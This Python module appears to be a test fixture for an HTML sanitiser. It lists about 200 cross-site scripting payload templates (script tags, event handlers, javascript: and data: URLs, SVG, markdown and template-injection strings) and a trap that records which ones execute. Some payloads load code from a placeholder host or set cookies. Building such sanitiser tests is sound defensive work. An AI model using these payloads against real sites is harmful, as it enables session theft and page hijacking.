"""What may be written in a document, a name or a question so that it would run, were it taken for a part of the page.

Each writes into `window.__ran`, by itself or through a function that `TRAP` has put in the browser's place, or fetches
an address under `/ran/` or at `ran.invalid`. Some are for a page that escapes nothing, others for one that escapes the
wrong thing, or undoes it."""

from __future__ import annotations

TRAP = """
window.__ran = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
  window[name] = (what) => { window.__ran.push(what); };
}
"""
"""In every frame, before anything else runs."""

_TAGS = """\
<script>{run}</script>
<SCRIPT>{run}</SCRIPT>
<scr<script>ipt>{run}</scr</script>ipt>
<script >{run}</script >
<script/x>{run}</script>
<script type=module>{run}</script>
<script src=/ran/{n}.js></script>
<script src=data:text/javascript,{run}></script>
<script src=//ran.invalid/{n}></script>
</script><script>{run}</script>
</title><script>{run}</script>
</textarea><script>{run}</script>
</style><script>{run}</script>
</noscript><script>{run}</script>
</template><script>{run}</script>
</iframe><script>{run}</script>
</mark><script>{run}</script>
</p></article><script>{run}</script>
--><script>{run}</script>
]]><script>{run}</script>
"><script>{run}</script>
'><script>{run}</script>
<img src=x onerror={run}>
<img src=x onerror="{run}">
<img src=x onerror='{run}'>
<IMG SRC=x ONERROR={run}>
<img/src=x/onerror={run}>
<img src=x onerror=&#34;{run}&#34;>
<img src onerror={run}>
<img src=/ran/{n}.png>
<img src=//ran.invalid/{n}>
<img srcset=/ran/{n}.png>
<img src=x onerror={run} //
<img src=x onerror={run}
"><img src=x onerror={run}>
'><img src=x onerror={run}>
" onerror={run} src=x x="
' onerror={run} src=x x='
"autofocus onfocus={run} x="
" onmouseover={run} style=position:fixed;inset:0 x="
' onfocus={run} autofocus tabindex=1 x='
<svg onload={run}>
<svg/onload={run}>
<svg><script>{run}</script></svg>
<svg><script href=data:text/javascript,{run} />
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><set onbegin={run} attributeName=x>
<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>
<svg><use href=/ran/{n}.svg#x></use></svg>
<svg><image href=/ran/{n}.png onerror={run}></svg>
<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>
<svg><desc><img src=x onerror={run}></desc></svg>
<svg><style><img src=x onerror={run}></style></svg>
<math><mtext><img src=x onerror={run}></mtext></math>
<math href=javascript:{run}>x</math>
<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>
<body onload={run}>
<body onpageshow={run}>
<body onfocus={run}>
<body background=/ran/{n}.png>
<iframe srcdoc="<script>parent.{run}</script>">
<iframe srcdoc='<img src=x onerror=parent.{run}>'>
<iframe src=javascript:parent.{run}>
<iframe src="javascript:{run}">
<iframe src=/ran/{n}></iframe>
<iframe onload={run}>
<frameset onload={run}>
<object data=javascript:{run}>
<object data=/ran/{n} onerror={run}></object>
<object data="data:text/html,<script>parent.{run}</script>">
<embed src=javascript:{run}>
<embed src=/ran/{n}>
<applet code=javascript:{run}>
<video src=x onerror={run}></video>
<video><source onerror={run}></video>
<video poster=/ran/{n}.png></video>
<audio src=x onerror={run}></audio>
<audio src=/ran/{n}.ogg autoplay></audio>
<input autofocus onfocus={run}>
<input type=image src=x onerror={run}>
<textarea autofocus onfocus={run}></textarea>
<select autofocus onfocus={run}></select>
<button autofocus onfocus={run}>x</button>
<keygen autofocus onfocus={run}>
<details open ontoggle={run}><summary>x</summary></details>
<details open ontoggle="{run}">
<dialog open onfocusin={run} tabindex=1 autofocus>x</dialog>
<marquee onstart={run}>x</marquee>
<marquee loop=1 width=0 onfinish={run}>x</marquee>
<a href=javascript:{run}>x</a>
<a href="javascript:{run}">x</a>
<a href="java&#9;script:{run}">x</a>
<a href="JaVaScRiPt:{run}">x</a>
<a href=data:text/html,<script>{run}</script>>x</a>
<a href=x onclick={run} autofocus onfocus={run}>x</a>
<area href=javascript:{run} autofocus onfocus={run} tabindex=1>
<form action=javascript:{run}><input type=submit autofocus></form>
<form><button formaction=javascript:{run} autofocus>x</button></form>
<isindex action=javascript:{run} type=image>
<base href=javascript:{run}//>
<base href=//ran.invalid/>
<link rel=stylesheet href=/ran/{n}.css>
<link rel=stylesheet href=x onerror={run}>
<link rel=preload as=script href=/ran/{n}.js>
<link rel=prefetch href=/ran/{n}>
<link rel=icon href=/ran/{n}.ico>
<meta http-equiv=refresh content="0;url=javascript:{run}">
<meta http-equiv=refresh content="0;url=/ran/{n}">
<meta http-equiv=set-cookie content=ran={n}>
<style>@import '/ran/{n}.css';</style>
<style>*{{background:url(/ran/{n}.png)}}</style>
<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart={run}></b>
<style>@font-face{{font-family:x;src:url(/ran/{n}.woff)}}</style>
<div style="background:url(/ran/{n}.png)">x</div>
<div style="width:expression({run})">x</div>
<div style="animation:breathe 1s" onanimationstart={run}>x</div>
<div onpointerenter={run} style=position:fixed;inset:0>x</div>
<div contenteditable autofocus onfocus={run}>x</div>
<div popover onbeforetoggle={run}>x</div>
<b onwheel={run} onscroll={run}>x</b>
<x onclick={run} id=x tabindex=1 onfocus={run} autofocus>x</x>
<x contenteditable onblur={run} autofocus>x</x>
<p id=question name=question onfocus={run} autofocus tabindex=0>x
<template shadowrootmode=open><img src=x onerror={run}></template>
<template><script>{run}</script></template>
<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>
<table background=javascript:{run}>
<table><td background=/ran/{n}.png>
<xmp><img src=x onerror={run}></xmp>
<plaintext><img src=x onerror={run}>
<listing><img src=x onerror={run}></listing>
<noembed><img src=x onerror={run}></noembed>
<!--><img src=x onerror={run}>-->
<!--<img src="--><img src=x onerror={run}//">
<![CDATA[<img src=x onerror={run}>]]>
<?xml version=1?><img src=x onerror={run}>
<!doctype html><img src=x onerror={run}>
<%<img src=x onerror={run}>%>
<<img src=x onerror={run}>>
<img src=x:x onerror={run} alt="`>
<img src=`x` onerror={run}>
<img alt="</title><img src=x onerror={run}>">
<assistant-chat data-address=//ran.invalid/{n} data-mode=inline></assistant-chat>
<assistant-desk onfocus={run} tabindex=0 autofocus></assistant-desk>
<slot name=x onslotchange={run}></slot>
<portal src=javascript:{run}>
<img src=x onerror=eval(atob('d2luZG93Ll9fcmFuLnB1c2goMSk='))>
<img src=x onerror="[{n}].find({fn})">
<img src=x onerror=setTimeout('{run}')>
<img src=x onerror="import('data:text/javascript,{run}')">
<img src=x onerror="fetch('/ran/{n}')">
<img src=x onerror="navigator.sendBeacon('/ran/{n}')">
<img src=x onerror="new Image().src='/ran/{n}.png'">
<img src=x onerror="location='/ran/{n}'">
<img src=x onerror="document.cookie='ran={n}'">
<img src=x onerror="top.__ran.push({n})">
<img src=x onerror="parent.postMessage('assistant-escape','*');{run}">
"""
"""One a line. `{run}` is what runs, `{fn}` a function that takes the number `{n}`."""

_OTHERS = """\
javascript:{run}
JAVASCRIPT:{run}//
java\\tscript:{run}
vbscript:{run}
data:text/html,<script>{run}</script>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW4ucHVzaCgxKTwvc2NyaXB0Pg==
//ran.invalid/{n}
/ran/{n}
[x](javascript:{run})
[x](JaVaScRiPt:{run})
[x](data:text/html,<script>{run}</script>)
[x](//ran.invalid/{n})
[x](<javascript:{run}>)
[x](x "" onmouseover={run})
[x]: javascript:{run}
![x](x"onerror="{run})
![x](/ran/{n}.png)
![x](javascript:{run})
<javascript:{run}>
**<img src=x onerror={run}>**
# <img src=x onerror={run}>
> <img src=x onerror={run}>
[<img src=x onerror={run}>](x)
*</i><img src=x onerror={run}>*
*" onfocus={run} autofocus x="*
&lt;img src=x onerror={run}&gt;
&#60;img src=x onerror={run}&#62;
&#x3c;img src=x onerror={run}&#x3e;
&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;
%3Cimg src=x onerror={run}%3E
\\u003cimg src=x onerror={run}\\u003e
\\x3cscript\\x3e{run}\\x3c/script\\x3e
＜img src=x onerror={run}＞
${{{run}}}
{{{{constructor.constructor('{run}')()}}}}
{{% {run} %}}
#{{{run}}}
<%= {run} %>
`${{{run}}}`
';{run};'
";{run};"
'-{run}-'
"-{run}-"
\\';{run};//
\\";{run};//
*/{run}/*
//{run}
}};{run};{{
)}};{run};({{
");{run};("
';{run};//
--%3E%3Cscript%3E{run}%3C/script%3E
event: answer data: <script>{run}</script>
{{"text": "<img src=x onerror={run}>"}}
<mark><img src=x onerror={run}></mark>
<?php {run} ?>
expression({run})
url(javascript:{run})
@import url(/ran/{n}.css)
"/><svg onload={run}>
"""

_RUNS = ("alert({n})", "__ran.push({n})")


def payloads() -> list[str]:
    """All of them, each with a number of its own from 1, none twice."""
    found: list[str] = []
    for template in (_TAGS + _OTHERS).splitlines():
        n = len(found) + 1
        run = _RUNS[n % len(_RUNS)].format(n=n)
        found.append(template.format(run=run, fn=run.partition("(")[0], n=n))
    return found
